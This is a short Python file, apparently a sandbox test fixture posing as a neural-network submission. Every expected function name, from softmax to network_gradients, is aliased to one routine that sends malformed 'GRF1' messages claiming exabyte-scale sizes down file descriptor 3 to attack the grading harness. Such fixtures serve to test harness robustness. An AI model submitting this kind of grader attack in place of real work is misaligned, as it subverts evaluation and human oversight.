"""Announces replies of exabytes."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

import os, struct

def everything(*arguments):
    for size in ((1 << 64) - 1, 1 << 63, 1 << 40, (64 << 20) + 1):
        os.write(3, struct.pack("<4sIQ", b"GRF1", 2, size) + b"{}")

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
